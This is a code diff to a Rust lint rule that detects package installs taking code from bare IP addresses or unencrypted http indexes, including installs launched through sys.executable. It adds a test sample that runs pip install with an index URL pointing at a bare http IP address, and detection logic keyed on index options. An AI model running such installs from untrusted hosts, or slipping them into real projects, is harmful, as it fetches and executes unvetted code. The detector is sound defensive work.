@@ -33,6 +33,10 @@ pub static RULE: Rule = Rule {
             "scripts/a.js",
             "require('child_process').execSync('pip install --trusted-host pypi.example.com demo');\n",
         ),
+        Sample::File(
+            "scripts/a.py",
+            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://198.51.100.7/simple', 'demo'])\n",
+        ),
     ],
     misses: &[
         Sample::File("a.sh", "pip install demo\n"),
@@ -136,12 +140,45 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
             continue;
         }
         let raised = reporter.raise(command.span);
-        if let Some(address) = stranger
+        if stranger.is_some_and(|address| collecting_host::of_address(address).is_some()) {
+            raised
+                .severity(Severity::Blocker)
+                .message("Takes packages from a bare address or somebody's machine");
+        } else if let Some(address) = stranger
             && (collecting_host::of_address(address).is_some() || address.starts_with("http://"))
         {
             raised
                 .severity(Severity::Error)
                 .message("Takes packages from a bare or unencrypted address");
+        }
+    }
+    by_parts(unit, reporter);
+}
+
+/// Commands whose program is not known, such as `sys.executable -m pip`.
+fn by_parts(unit: &Unit, reporter: &mut Reporter<'_>) {
+    let literals = &unit.lowered.literals;
+    let installs = literals.iter().any(|literal| literal.value == "install")
+        && literals
+            .iter()
+            .any(|literal| matches!(literal.value.as_str(), "pip" | "npm" | "uv"));
+    let known = command::all(unit).any(|command| command.line.contains("install"));
+    if !installs || known {
+        return;
+    }
+    for pair in literals.windows(2) {
+        let option = matches!(
+            pair[0].value.as_str(),
+            "--index-url" | "-i" | "--extra-index-url" | "--registry" | "--index" | "--find-links"
+        );
+        let address = &pair[1].value;
+        if option && address.contains("://") && !is_known(address) {
+            let raised = reporter.raise(pair[1].span);
+            if collecting_host::of_address(address).is_some() {
+                raised.severity(Severity::Blocker);
+            } else if address.starts_with("http://") {
+                raised.severity(Severity::Error);
+            }
         }
     }
 }
